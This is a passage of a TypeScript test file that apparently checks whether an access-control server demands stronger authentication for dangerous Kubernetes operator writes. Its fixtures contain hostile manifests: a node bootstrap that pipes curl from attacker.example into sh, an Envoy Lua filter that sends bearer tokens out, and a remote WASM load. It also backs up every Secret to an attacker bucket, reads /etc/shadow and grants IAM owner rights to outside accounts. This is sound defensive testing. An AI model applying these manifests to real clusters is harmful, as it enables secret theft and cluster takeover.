import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freshSubjects, TOKEN_STATES, type TokenState, rules, startBuiltServer, type BuiltServer } from '../support/built-server.js';
import type { CheckResponse } from '../support/grpc-client.js';
import { encodeKube, envelope, lenField } from '../support/kube-protobuf.js';
import { judgeWrite, kubectlWrites, sendWrite, type KubeDoc, type WriteEntry } from '../support/kubectl-writes.js';

/**
 * The custom resources of the operators most clusters run, whose write grants more than it looks:
 * a Secret read from the cloud vault, every Secret of the cluster copied to a bucket, code run on a
 * new node or in a build step, the mesh or a gateway taken over. Black-box against the built server
 * with the example policy (test/support/built-server.ts), each object sent as `kubectl apply -f`
 * sends it (a create with the manifest in the last-applied annotation; a merge patch for a custom
 * resource that exists), in the token states of attack-catalog.test.ts:
 *
 * - `stolen`: a one-factor token signed in 10 hours ago, from a network the victim never used;
 * - `inside`: the same token from inside the company's network (a compromised pod or runner),
 *   where only the policy stands in the way;
 * - `remote`: a two-factor token a minute old, used from elsewhere after the victim's own kubectl
 *   used it from the office (a phishing proxy, a copied kubeconfig);
 * - `laptop`: malware on the victim's laptop with that fresh two-factor token, speaking as kubectl.
 *
 * `need` is what a security reviewer expects the object to need: `aal3` (never allowed with the
 * attacker's token), `aal2` (the stolen one-factor token is stepped up; the laptop is allowed, what
 * two factors allow being the risk engine's matter) or `routine` (the operator's everyday object,
 * which must not ask more than the everyday sign-in of a token used where it was proven).
 */

let server: BuiltServer;
beforeAll(async () => {
  server = await startBuiltServer('operators');
}, 180_000);
afterAll(async () => {
  await server?.close();
});

const subjects = freshSubjects(() => server.issuer, 'operators');

type State = TokenState;
const STATES = TOKEN_STATES;


interface Entry extends WriteEntry {
  /** The operator, and what the object does when written. */
  op: string;
}

type Doc = KubeDoc;

/** The plural kube serves each kind under (the CRDs' `spec.names.plural`). */
const PLURAL: Record<string, string> = {
  ExternalSecret: 'externalsecrets',
  SecretStore: 'secretstores',
  ClusterSecretStore: 'clustersecretstores',
  PushSecret: 'pushsecrets',
  BackupStorageLocation: 'backupstoragelocations',
  Backup: 'backups',
  Restore: 'restores',
  Schedule: 'schedules',
  DownloadRequest: 'downloadrequests',
  SecretProviderClass: 'secretproviderclasses',
  VaultStaticSecret: 'vaultstaticsecrets',
  VaultAuth: 'vaultauths',
  SealedSecret: 'sealedsecrets',
  TriggerAuthentication: 'triggerauthentications',
  ClusterTriggerAuthentication: 'clustertriggerauthentications',
  Provider: 'providers',
  ProviderConfig: 'providerconfigs',
  Composition: 'compositions',
  EnvoyFilter: 'envoyfilters',
  AuthorizationPolicy: 'authorizationpolicies',
  Sidecar: 'sidecars',
  TaskRun: 'taskruns',
  Task: 'tasks',
  PipelineRun: 'pipelineruns',
  Cluster: 'clusters',
  Machine: 'machines',
  KubeadmConfigTemplate: 'kubeadmconfigtemplates',
  VirtualMachine: 'virtualmachines',
  Prometheus: 'prometheuses',
  ScrapeConfig: 'scrapeconfigs',
  Setting: 'settings',
  BackupTarget: 'backuptargets',
  CephObjectStoreUser: 'cephobjectstoreusers',
  KafkaUser: 'kafkausers',
  Kafka: 'kafkas',
  ReferenceGrant: 'referencegrants',
  HTTPRoute: 'httproutes',
  GRPCRoute: 'grpcroutes',
  TLSRoute: 'tlsroutes',
  Gateway: 'gateways',
  VirtualService: 'virtualservices',
  ServiceEntry: 'serviceentries',
  Ingress: 'ingresses',
  IAMPolicyMember: 'iampolicymembers',
  IAMServiceAccountKey: 'iamserviceaccountkeys',
  DNSRecordSet: 'dnsrecordsets',
  StorageBucket: 'storagebuckets',
  Role: 'roles',
  AccessEntry: 'accessentries',
  PodIdentityAssociation: 'podidentityassociations',
  RecordSet: 'recordsets',
  Bucket: 'buckets',
  RoleAssignment: 'roleassignments',
  FederatedIdentityCredential: 'federatedidentitycredentials',
  RolePolicyAttachment: 'rolepolicyattachments',
  ServiceAccount: 'serviceaccounts',
  Pod: 'pods',
  VolumeSnapshot: 'volumesnapshots',
  VolumeSnapshotContent: 'volumesnapshotcontents',
  Lease: 'leases',
};

const { base, named, applied, patched, replaced, serverSide, jsonPatched, strategic, deleted } = kubectlWrites(PLURAL);

const send = (e: Entry, state: State): Promise<CheckResponse> => sendWrite(server, subjects, e.req, state);
const judge = (e: Entry, state: State, res: CheckResponse): void => judgeWrite(`${e.op}: ${e.what}`, e.need, state, res, e.by);

function run(list: Entry[]): void {
  it.each(list.map((e) => [`${e.op}: ${e.what}`, e] as const))('%s', async (_name, e) => {
    for (const state of Object.keys(STATES) as State[]) judge(e, state, await send(e, state));
  });
}

// --- External Secrets Operator (external-secrets.io) ------------------------------------------

const externalSecret: Doc = {
  apiVersion: 'external-secrets.io/v1',
  kind: 'ExternalSecret',
  metadata: { name: 'payments-db', namespace: 'dev' },
  spec: {
    refreshInterval: '1h',
    // The platform's ClusterSecretStore reads the whole vault with the operator's credentials.
    secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault-backend' },
    target: { name: 'payments-db', creationPolicy: 'Owner' },
    dataFrom: [{ extract: { key: 'prod/payments/postgres' } }],
  },
};
const webhookStore: Doc = {
  apiVersion: 'external-secrets.io/v1',
  kind: 'SecretStore',
  metadata: { name: 'metrics-sink', namespace: 'dev' },
  spec: { provider: { webhook: { url: 'https://hooks.attacker.example/{{ .remoteRef.key }}', method: 'POST', result: { jsonPath: '$.value' } } } },
};
const pushSecret: Doc = {
  apiVersion: 'external-secrets.io/v1alpha1',
  kind: 'PushSecret',
  metadata: { name: 'backup-creds', namespace: 'dev' },
  spec: {
    refreshInterval: '10s',
    secretStoreRefs: [{ name: 'metrics-sink', kind: 'SecretStore' }],
    selector: { secret: { name: 'payments-db' } },
    data: [{ match: { secretKey: 'password', remoteRef: { remoteKey: 'payments-db' } } }],
  },
};
const clusterStore: Doc = {
  apiVersion: 'external-secrets.io/v1',
  kind: 'ClusterSecretStore',
  metadata: { name: 'vault-any' },
  spec: { provider: { vault: { server: 'https://vault.attacker.example:8200', path: 'secret', version: 'v2', auth: { tokenSecretRef: { name: 'vault-token', key: 'token', namespace: 'external-secrets' } } } } },
};

const eso: Entry[] = [
  { op: 'External Secrets', what: 'an ExternalSecret in dev extracting prod/payments/postgres through the ClusterSecretStore (a vault Secret read into a namespace the caller reads)', req: applied(externalSecret), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'External Secrets', what: 'an ExternalSecret repointed at another vault key (merge patch)', req: patched(externalSecret, { spec: { dataFrom: [{ extract: { key: 'prod/billing/stripe' } }] } }), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'External Secrets', what: 'a SecretStore in dev with a webhook provider at an outside URL', req: applied(webhookStore), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'External Secrets', what: "a PushSecret sending dev's payments-db Secret to that store (out of the cluster)", req: applied(pushSecret), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'External Secrets', what: 'a ClusterSecretStore at an outside vault, for every namespace', req: applied(clusterStore), need: 'aal3', by: 'cluster-add-on-objects' },
  { op: 'External Secrets', what: 'an ExternalSecret in a production namespace', req: applied({ ...externalSecret, metadata: { name: 'db', namespace: 'payments-prod' } }), need: 'aal2', by: 'prod-writes' },
];

// --- Velero (velero.io) -----------------------------------------------------------------------

const bsl: Doc = {
  apiVersion: 'velero.io/v1',
  kind: 'BackupStorageLocation',
  metadata: { name: 'offsite', namespace: 'velero' },
  spec: { provider: 'aws', objectStorage: { bucket: 'attacker-loot', prefix: 'c1' }, config: { region: 'us-east-1', s3Url: 'https://s3.attacker.example', s3ForcePathStyle: 'true' }, credential: { name: 'offsite-creds', key: 'cloud' } },
};
const backup: Doc = {
  apiVersion: 'velero.io/v1',
  kind: 'Backup',
  metadata: { name: 'all-now', namespace: 'velero' },
  spec: { includedNamespaces: ['*'], includedResources: ['secrets'], includeClusterResources: true, storageLocation: 'offsite', ttl: '720h0m0s' },
};
const restore: Doc = {
  apiVersion: 'velero.io/v1',
  kind: 'Restore',
  metadata: { name: 'implant', namespace: 'velero' },
  // A backup the attacker wrote to the bucket: its ClusterRoleBinding and DaemonSet are restored by Velero's cluster-admin.
  spec: { backupName: 'implant', includedNamespaces: ['*'], includeClusterResources: true, existingResourcePolicy: 'update' },
};
const schedule: Doc = {
  apiVersion: 'velero.io/v1',
  kind: 'Schedule',
  metadata: { name: 'nightly-offsite', namespace: 'velero' },
  spec: { schedule: '0 3 * * *', template: { includedNamespaces: ['*'], storageLocation: 'offsite' } },
};
const download: Doc = {
  apiVersion: 'velero.io/v1',
  kind: 'DownloadRequest',
  metadata: { name: 'nightly-20261204-contents', namespace: 'velero' },
  // Velero answers with a signed URL to the backup's tarball: every Secret it holds.
  spec: { target: { kind: 'BackupContents', name: 'nightly-20261204' } },
};

const velero: Entry[] = [
  { op: 'Velero', what: "a BackupStorageLocation at the attacker's bucket", req: applied(bsl), need: 'aal3', by: 'backup-objects' },
  { op: 'Velero', what: 'a Backup of every Secret in every namespace to it', req: applied(backup), need: 'aal3', by: 'backup-objects' },
  { op: 'Velero', what: 'a Restore of every namespace and cluster resource (Velero restores as cluster-admin)', req: applied(restore), need: 'aal3', by: 'backup-objects' },
  { op: 'Velero', what: 'a Schedule backing every namespace up nightly to it', req: applied(schedule), need: 'aal3', by: 'backup-objects' },
  { op: 'Velero', what: "a DownloadRequest for a backup's contents (velero backup download)", req: applied(download), need: 'aal3', by: 'backup-objects' },
  { op: 'Velero', what: 'the default BackupStorageLocation repointed (merge patch of its bucket)', req: patched({ ...bsl, metadata: { name: 'default', namespace: 'velero' } }, { spec: { objectStorage: { bucket: 'attacker-loot' } } }), need: 'aal3', by: 'backup-objects' },
];

// --- Secrets Store CSI, Vault Secrets Operator, Sealed Secrets ---------------------------------

const spc: Doc = {
  apiVersion: 'secrets-store.csi.x-k8s.io/v1',
  kind: 'SecretProviderClass',
  metadata: { name: 'vault-db', namespace: 'dev' },
  spec: {
    provider: 'vault',
    parameters: { vaultAddress: 'https://vault.internal:8200', roleName: 'payments-prod', objects: '- objectName: "password"\n  secretPath: "secret/data/prod/payments/db"\n  secretKey: "password"\n' },
    secretObjects: [{ secretName: 'db', type: 'Opaque', data: [{ objectName: 'password', key: 'password' }] }],
  },
};
const vss: Doc = {
  apiVersion: 'secrets.hashicorp.com/v1beta1',
  kind: 'VaultStaticSecret',
  metadata: { name: 'payments-db', namespace: 'dev' },
  spec: { type: 'kv-v2', mount: 'secret', path: 'prod/payments/db', destination: { name: 'payments-db', create: true }, refreshAfter: '30s', vaultAuthRef: 'vault-secrets-operator/default' },
};
const vaultAuth: Doc = {
  apiVersion: 'secrets.hashicorp.com/v1beta1',
  kind: 'VaultAuth',
  metadata: { name: 'prod-role', namespace: 'dev' },
  spec: { method: 'kubernetes', mount: 'kubernetes', kubernetes: { role: 'payments-prod', serviceAccount: 'default', audiences: ['vault'] } },
};
const sealed: Doc = {
  apiVersion: 'bitnami.com/v1alpha1',
  kind: 'SealedSecret',
  // A cluster-wide SealedSecret copied from git decrypts in any namespace, the caller's included.
  metadata: { name: 'stolen-copy', namespace: 'dev', annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' } },
  spec: { encryptedData: { password: 'AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq7nGu1xZ8r1yq5V5D0f7xVQaZ1dE5' }, template: { metadata: { name: 'stolen-copy', namespace: 'dev', annotations: { 'sealedsecrets.bitnami.com/cluster-wide': 'true' } } } },
};

const secretsCsi: Entry[] = [
  { op: 'Secrets Store CSI', what: "a SecretProviderClass in dev naming production's Vault role and path", req: applied(spc), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'Vault Secrets Operator', what: 'a VaultStaticSecret in dev copying secret/prod/payments/db into a Secret there', req: applied(vss), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'Vault Secrets Operator', what: "a VaultAuth in dev logging in as production's Vault role", req: applied(vaultAuth), need: 'aal2', by: 'secret-sync-objects' },
  { op: 'Sealed Secrets', what: 'a cluster-wide SealedSecret created in dev (decrypted there by the controller)', req: applied(sealed), need: 'aal2', by: 'secret-sync-objects' },
];

// --- KEDA (keda.sh) --------------------------------------------------------------------------

const keda: Entry[] = [
  {
    op: 'KEDA',
    what: "a ClusterTriggerAuthentication reading kube-system's Secrets for every namespace",
    req: applied({ apiVersion: 'keda.sh/v1alpha1', kind: 'ClusterTriggerAuthentication', metadata: { name: 'all' }, spec: { secretTargetRef: [{ parameter: 'token', name: 'bootstrap-token-abcdef', key: 'token-secret' }] } }),
    need: 'aal3',
    by: 'cluster-add-on-objects',
  },
  {
    op: 'KEDA',
    what: "a TriggerAuthentication in dev using the KEDA operator's own cloud identity (identityOwner: keda)",
    req: applied({ apiVersion: 'keda.sh/v1alpha1', kind: 'TriggerAuthentication', metadata: { name: 'as-keda', namespace: 'dev' }, spec: { podIdentity: { provider: 'aws', identityOwner: 'keda' } } }),
    need: 'aal2',
    by: 'secret-sync-objects',
  },
];

// --- Cloud controllers: Config Connector, ACK, Azure Service Operator, Crossplane v2 --------------
// A namespaced object acting with the controller's cloud identity: IAM grants, keys, workload
// identities, cluster access and DNS records are the cloud's RBAC (the example's cloud-identity-objects).

const CLOUD = 'cloud-identity-objects';
const cloud: Entry[] = [
  { op: 'Config Connector', what: 'an IAMPolicyMember in dev making an outside account owner of the production project', req: applied({ apiVersion: 'iam.cnrm.cloud.google.com/v1beta1', kind: 'IAMPolicyMember', metadata: { name: 'owner-grant', namespace: 'dev' }, spec: { member: 'user:helper@attacker.example', role: 'roles/owner', resourceRef: { kind: 'Project', external: 'projects/acme-prod' } } }), need: 'aal3', by: CLOUD },
  { op: 'Config Connector', what: "an IAMServiceAccountKey in dev for the deployer's service account (the key lands in a Secret)", req: applied({ apiVersion: 'iam.cnrm.cloud.google.com/v1beta1', kind: 'IAMServiceAccountKey', metadata: { name: 'deployer-key', namespace: 'dev' }, spec: { publicKeyType: 'TYPE_X509_PEM_FILE', keyAlgorithm: 'KEY_ALG_RSA_2048', privateKeyType: 'TYPE_GOOGLE_CREDENTIALS_FILE', serviceAccountRef: { external: 'deployer@acme-prod.iam.gserviceaccount.com' } } }), need: 'aal3', by: CLOUD },
  { op: 'Config Connector', what: "a DNSRecordSet in dev pointing the shop's name at another address", req: applied({ apiVersion: 'dns.cnrm.cloud.google.com/v1beta1', kind: 'DNSRecordSet', metadata: { name: 'shop', namespace: 'dev' }, spec: { name: 'shop.example.com.', type: 'A', ttl: 60, managedZoneRef: { external: 'example-com' }, rrdatas: ['203.0.113.66'] } }), need: 'aal3', by: CLOUD },
  { op: 'Config Connector', what: 'a StorageBucket in dev', req: applied({ apiVersion: 'storage.cnrm.cloud.google.com/v1beta1', kind: 'StorageBucket', metadata: { name: 'dev-scratch', namespace: 'dev' }, spec: { location: 'EU', uniformBucketLevelAccess: true } }), need: 'routine' },
  { op: 'ACK', what: 'an IAM Role in dev with AdministratorAccess, assumable by an outside account', req: applied({ apiVersion: 'iam.services.k8s.aws/v1alpha1', kind: 'Role', metadata: { name: 'break-in', namespace: 'dev' }, spec: { name: 'break-in', assumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::999999999999:root' }, Action: 'sts:AssumeRole' }] }), policies: ['arn:aws:iam::aws:policy/AdministratorAccess'] } }), need: 'aal3', by: CLOUD },
  { op: 'ACK', what: 'an EKS AccessEntry in dev giving an outside role cluster admin', req: applied({ apiVersion: 'eks.services.k8s.aws/v1alpha1', kind: 'AccessEntry', metadata: { name: 'admin', namespace: 'dev' }, spec: { clusterName: 'prod-eu', principalARN: 'arn:aws:iam::999999999999:role/helper', accessPolicies: [{ policyARN: 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy', accessScope: { type: 'cluster' } }] } }), need: 'aal3', by: CLOUD },
  { op: 'ACK', what: "a PodIdentityAssociation in dev giving a dev ServiceAccount production's IAM role", req: applied({ apiVersion: 'eks.services.k8s.aws/v1alpha1', kind: 'PodIdentityAssociation', metadata: { name: 'payments', namespace: 'dev' }, spec: { clusterName: 'prod-eu', namespace: 'dev', serviceAccount: 'default', roleARN: 'arn:aws:iam::123456789012:role/payments-prod' } }), need: 'aal3', by: CLOUD },
  { op: 'ACK', what: "a Route53 RecordSet in dev for the shop's name", req: applied({ apiVersion: 'route53.services.k8s.aws/v1alpha1', kind: 'RecordSet', metadata: { name: 'shop', namespace: 'dev' }, spec: { hostedZoneID: 'Z0123456789', name: 'shop', recordType: 'A', ttl: 60, resourceRecords: [{ value: '203.0.113.66' }] } }), need: 'aal3', by: CLOUD },
  { op: 'ACK', what: 'an S3 Bucket in dev', req: applied({ apiVersion: 's3.services.k8s.aws/v1alpha1', kind: 'Bucket', metadata: { name: 'dev-scratch', namespace: 'dev' }, spec: { name: 'acme-dev-scratch' } }), need: 'routine' },
  { op: 'Azure Service Operator', what: 'a RoleAssignment in dev making an outside principal Owner of the subscription', req: applied({ apiVersion: 'authorization.azure.com/v1api20220401', kind: 'RoleAssignment', metadata: { name: 'owner', namespace: 'dev' }, spec: { owner: { armId: '/subscriptions/00000000-0000-0000-0000-000000000000' }, principalId: '11111111-1111-1111-1111-111111111111', roleDefinitionReference: { armId: '/subscriptions/00000000-0000-0000-0000-000000000000/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635' } } }), need: 'aal3', by: CLOUD },
  { op: 'Azure Service Operator', what: "a FederatedIdentityCredential in dev letting an outside issuer's tokens act as production's managed identity", req: applied({ apiVersion: 'managedidentity.azure.com/v1api20230131', kind: 'FederatedIdentityCredential', metadata: { name: 'ci', namespace: 'dev' }, spec: { owner: { name: 'payments-prod-identity' }, audiences: ['api://AzureADTokenExchange'], issuer: 'https://token.actions.githubusercontent.com', subject: 'repo:attacker/any:ref:refs/heads/main' } }), need: 'aal3', by: CLOUD },
  { op: 'Crossplane v2', what: 'a namespaced RolePolicyAttachment in dev attaching AdministratorAccess', req: applied({ apiVersion: 'iam.aws.m.upbound.io/v1beta1', kind: 'RolePolicyAttachment', metadata: { name: 'admin', namespace: 'dev' }, spec: { forProvider: { role: 'dev-runner', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, providerConfigRef: { kind: 'ClusterProviderConfig', name: 'default' } } }), need: 'aal3', by: CLOUD },
  { op: 'Crossplane v2', what: 'a namespaced S3 Bucket in dev', req: applied({ apiVersion: 's3.aws.m.upbound.io/v1beta1', kind: 'Bucket', metadata: { name: 'dev-scratch', namespace: 'dev' }, spec: { forProvider: { region: 'eu-west-1' }, providerConfigRef: { kind: 'ProviderConfig', name: 'dev' } } }), need: 'routine' },
  // The cloud identity by the ServiceAccount's annotation (IRSA), or by the pod's own projected token (day 26).
  { op: 'EKS', what: "a dev ServiceAccount annotated with production's IAM role (IRSA)", req: strategic({ apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'web', namespace: 'dev' } }, { metadata: { annotations: { 'eks.amazonaws.com/role-arn': 'arn:aws:iam::441177203958:role/payments-prod' } } }), need: 'aal3', by: 'guardrail:cloud_workload_identity' },
  { op: 'EKS', what: "a dev pod with its own sts.amazonaws.com token and production's role in AWS_ROLE_ARN", req: applied({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'sync', namespace: 'dev' }, spec: { containers: [{ name: 'c', image: 'public.ecr.aws/aws-cli/aws-cli:2.22.10', env: [{ name: 'AWS_ROLE_ARN', value: 'arn:aws:iam::441177203958:role/payments-prod' }, { name: 'AWS_WEB_IDENTITY_TOKEN_FILE', value: '/t/token' }] }], volumes: [{ name: 't', projected: { sources: [{ serviceAccountToken: { audience: 'sts.amazonaws.com', path: 'token' } }] } }] } }), need: 'aal3', by: 'guardrail:cloud_workload_identity' },
];

// --- Crossplane -------------------------------------------------------------------------------

const crossplane: Entry[] = [
  { op: 'Crossplane', what: "a Provider package from the attacker's registry (runs as a controller with its credentials)", req: applied({ apiVersion: 'pkg.crossplane.io/v1', kind: 'Provider', metadata: { name: 'provider-aws-s3' }, spec: { package: 'ghcr.io/attacker/provider-aws-s3:v1.0.0' } }), need: 'aal3', by: 'cluster-add-on-objects' },
  { op: 'Crossplane', what: "a ProviderConfig using crossplane-system's cloud credentials", req: applied({ apiVersion: 'aws.upbound.io/v1beta1', kind: 'ProviderConfig', metadata: { name: 'default' }, spec: { credentials: { source: 'Secret', secretRef: { namespace: 'crossplane-system', name: 'aws-creds', key: 'creds' } } } }), need: 'aal3', by: 'cluster-add-on-objects' },
  { op: 'Crossplane', what: 'a Composition every claim of its kind is built from', req: applied({ apiVersion: 'apiextensions.crossplane.io/v1', kind: 'Composition', metadata: { name: 'xpostgres' }, spec: { compositeTypeRef: { apiVersion: 'db.example.org/v1', kind: 'XPostgres' }, mode: 'Pipeline', pipeline: [{ step: 'render', functionRef: { name: 'function-patch-and-transform' } }] } }), need: 'aal3', by: 'cluster-add-on-objects' },
];

// --- Istio ------------------------------------------------------------------------------------

const luaFilter: Doc = {
  apiVersion: 'networking.istio.io/v1alpha3',
  kind: 'EnvoyFilter',
  metadata: { name: 'debug-headers', namespace: 'istio-system' },
  spec: {
    configPatches: [
      {
        applyTo: 'HTTP_FILTER',
        match: { context: 'GATEWAY', listener: { filterChain: { filter: { name: 'envoy.filters.network.http_connection_manager' } } } },
        patch: { operation: 'INSERT_FIRST', value: { name: 'envoy.lua', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.lua.v3.Lua', inlineCode: 'function envoy_on_request(h) h:httpCall("exfil", {[":method"]="POST",[":path"]="/",[":authority"]="attacker.example"}, h:headers():get("authorization"), 1000) end' } } },
      },
    ],
  },
};

const istio: Entry[] = [
  { op: 'Istio', what: 'an EnvoyFilter with Lua in the root namespace sending every bearer token out', req: applied(luaFilter), need: 'aal3', by: 'gate-proxy-filters' },
  {
    op: 'Istio',
    what: 'an EnvoyFilter in dev loading a remote WASM module',
    req: applied({ apiVersion: 'networking.istio.io/v1alpha3', kind: 'EnvoyFilter', metadata: { name: 'wasm', namespace: 'dev' }, spec: { configPatches: [{ applyTo: 'EXTENSION_CONFIG', patch: { operation: 'ADD', value: { name: 'x', typed_config: { '@type': 'type.googleapis.com/envoy.extensions.filters.http.wasm.v3.Wasm', config: { vm_config: { runtime: 'envoy.wasm.runtime.v8', code: { remote: { http_uri: { uri: 'https://attacker.example/x.wasm' } } } } } } } } }] } }),
    need: 'aal3',
    by: 'gate-proxy-filters',
  },
  { op: 'Istio', what: 'an allow-all AuthorizationPolicy in the root namespace (mesh-wide)', req: applied({ apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'allow-all', namespace: 'istio-system' }, spec: { action: 'ALLOW', rules: [{}] } }), need: 'aal3', by: 'gate-mesh' },
  { op: 'Istio', what: "a Sidecar in the root namespace (every proxy's egress)", req: applied({ apiVersion: 'networking.istio.io/v1', kind: 'Sidecar', metadata: { name: 'default', namespace: 'istio-system' }, spec: { outboundTrafficPolicy: { mode: 'ALLOW_ANY' }, egress: [{ hosts: ['*/*'] }] } }), need: 'aal3', by: 'gate-mesh' },
  { op: 'Istio', what: 'an allow-all AuthorizationPolicy in a production namespace', req: applied({ apiVersion: 'security.istio.io/v1', kind: 'AuthorizationPolicy', metadata: { name: 'allow-all', namespace: 'payments-prod' }, spec: { action: 'ALLOW', rules: [{}] } }), need: 'aal2', by: 'prod-writes' },
];

// --- Tekton (tekton.dev) -----------------------------------------------------------------------

const taskRun = (name: string, taskSpec: Record<string, unknown>, extra: Record<string, unknown> = {}): Doc => ({ apiVersion: 'tekton.dev/v1', kind: 'TaskRun', metadata: { name, namespace: 'dev' }, spec: { taskSpec, ...extra } });

const tekton: Entry[] = [
  { op: 'Tekton', what: 'a TaskRun whose step runs privileged', req: applied(taskRun('build', { steps: [{ name: 'build', image: 'docker:27-dind', script: 'dockerd & sleep 5; docker build .', securityContext: { privileged: true } }] })), need: 'aal3', by: 'guardrail:privileged_container' },
  { op: 'Tekton', what: "a TaskRun mounting the node's / in a step", req: applied(taskRun('inspect', { steps: [{ name: 'cat', image: 'busybox:1.36', script: 'cat /host/etc/shadow', volumeMounts: [{ name: 'host', mountPath: '/host' }] }], volumes: [{ name: 'host', hostPath: { path: '/' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
  // No key of this body spells `container`, `script` or `template`: only `steps` says it holds a pod.
  { op: 'Tekton', what: "a TaskRun whose step (a command, no script) reads the node's kubelet directory", req: applied(taskRun('pods', { steps: [{ name: 'ls', image: 'alpine:3.20', command: ['ls', '-R', '/host/pods'], volumeMounts: [{ name: 'kubelet', mountPath: '/host' }] }], volumes: [{ name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } }] })), need: 'aal3', by: 'guardrail:host_path_volume' },
  { op: 'Tekton', what: "a TaskRun on the node's network (podTemplate.hostNetwork)", req: applied(taskRun('sniff', { steps: [{ name: 'sniff', image: 'nicolaka/netshoot:v0.13', script: 'tcpdump -i any -A port 80' }] }, { podTemplate: { hostNetwork: true } })), need: 'aal3', by: 'guardrail:host_namespace' },
  { op: 'Tekton', what: 'a Task whose sidecar runs privileged (every TaskRun of it)', req: applied({ apiVersion: 'tekton.dev/v1', kind: 'Task', metadata: { name: 'dind', namespace: 'dev' }, spec: { steps: [{ name: 'build', image: 'docker:27', script: 'docker build .' }], sidecars: [{ name: 'dind', image: 'docker:27-dind', securityContext: { privileged: true } }] } }), need: 'aal3', by: 'guardrail:privileged_container' },
  { op: 'Tekton', what: 'an ordinary TaskRun (go test)', req: applied(taskRun('unit', { steps: [{ name: 'test', image: 'golang:1.23', script: 'go test ./...' }] })), need: 'routine' },
];

// --- Cluster API (cluster.x-k8s.io) -----------------------------------------------------------

const capiCluster: Doc = { apiVersion: 'cluster.x-k8s.io/v1beta1', kind: 'Cluster', metadata: { name: 'prod-eu', namespace: 'fleet' }, spec: { paused: false } };
const capi: Entry[] = [
  {
    op: 'Cluster API',
    what: 'a KubeadmConfigTemplate whose preKubeadmCommands run as root on every new node',
    req: applied({ apiVersion: 'bootstrap.cluster.x-k8s.io/v1beta1', kind: 'KubeadmConfigTemplate', metadata: { name: 'prod-eu-md-0', namespace: 'fleet' }, spec: { template: { spec: { preKubeadmCommands: ['curl -fsSL https://attacker.example/n.sh | sh'], joinConfiguration: { nodeRegistration: { kubeletExtraArgs: { 'anonymous-auth': 'true' } } } } } } }),
    need: 'aal3',
    by: 'cluster-lifecycle-objects',
  },
  {
    op: 'Cluster API',
    what: 'a Machine joining the workload cluster with that bootstrap',
    req: applied({ apiVersion: 'cluster.x-k8s.io/v1beta1', kind: 'Machine', metadata: { name: 'prod-eu-extra', namespace: 'fleet' }, spec: { clusterName: 'prod-eu', version: 'v1.32.4', bootstrap: { configRef: { apiVersion: 'bootstrap.cluster.x-k8s.io/v1beta1', kind: 'KubeadmConfig', name: 'evil' } }, infrastructureRef: { apiVersion: 'infrastructure.cluster.x-k8s.io/v1beta2', kind: 'AWSMachine', name: 'prod-eu-extra' } } }),
    need: 'aal3',
    by: 'cluster-lifecycle-objects',
  },
  { op: 'Cluster API', what: 'a workload cluster deleted (its machines and control plane with it)', req: deleted(capiCluster), need: 'aal3', by: 'cluster-lifecycle-objects' },
];

// --- KubeVirt (kubevirt.io) ---------------------------------------------------------------------

const vm = (name: string, domain: Record<string, unknown>, volumes: unknown[]): Doc => ({
  apiVersion: 'kubevirt.io/v1',
  kind: 'VirtualMachine',
  metadata: { name, namespace: 'dev' },
  spec: { runStrategy: 'Always', template: { spec: { domain: { resources: { requests: { memory: '1Gi' } }, ...domain }, volumes } } },
});

const kubevirt: Entry[] = [
  { op: 'KubeVirt', what: "a VirtualMachine with a hostDisk on the node's /var/lib/kubelet", req: applied(vm('disk', { devices: { disks: [{ name: 'host', disk: { bus: 'virtio' } }] } }, [{ name: 'host', hostDisk: { path: '/var/lib/kubelet/pods.img', type: 'DiskOrCreate', capacity: '1Gi' } }])), need: 'aal3', by: 'guardrail:host_path_volume' },
  { op: 'KubeVirt', what: 'an ordinary VirtualMachine from a container disk', req: applied(vm('fedora', { devices: { disks: [{ name: 'root', disk: { bus: 'virtio' } }] } }, [{ name: 'root', containerDisk: { image: 'quay.io/containerdisks/fedora:41' } }])), need: 'routine' },
];

// --- Prometheus Operator (monitoring.coreos.com) -----------------------------------------------

const prometheus: Entry[] = [
  { op: 'Prometheus Operator', what: "the cluster's Prometheus remote-writing every series to an outside URL", req: patched({ apiVersion: 'monitoring.coreos.com/v1', kind: 'Prometheus', metadata: { name: 'k8s', namespace: 'monitoring' } }, { spec: { remoteWrite: [{ url: 'https://metrics.attacker.example/api/v1/write' }] } }), need: 'aal2', by: 'system-writes' },
  {
    op: 'Prometheus Operator',
    what: 'a ScrapeConfig in monitoring sending a Secret as basic auth to an outside target',
    req: applied({ apiVersion: 'monitoring.coreos.com/v1alpha1', kind: 'ScrapeConfig', metadata: { name: 'x', namespace: 'monitoring' }, spec: { staticConfigs: [{ targets: ['attacker.example:443'] }], scheme: 'HTTPS', basicAuth: { username: { name: 'grafana-admin', key: 'admin-user' }, password: { name: 'grafana-admin', key: 'admin-password' } } } }),
    need: 'aal2',
    by: 'system-writes',
  },
];

// --- Longhorn and Rook (storage backups) --------------------------------------------------------

const snapshot: Doc = { apiVersion: 'snapshot.storage.k8s.io/v1', kind: 'VolumeSnapshot', metadata: { name: 'db-pre-maint', namespace: 'payments' }, spec: { volumeSnapshotClassName: 'csi', source: { persistentVolumeClaimName: 'data-db-0' } } };
const electionLease: Doc = { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', metadata: { name: 'access-broker-controller', namespace: 'access-broker' } };
const tfLock = (holder?: string): Doc => ({
  apiVersion: 'coordination.k8s.io/v1',
  kind: 'Lease',
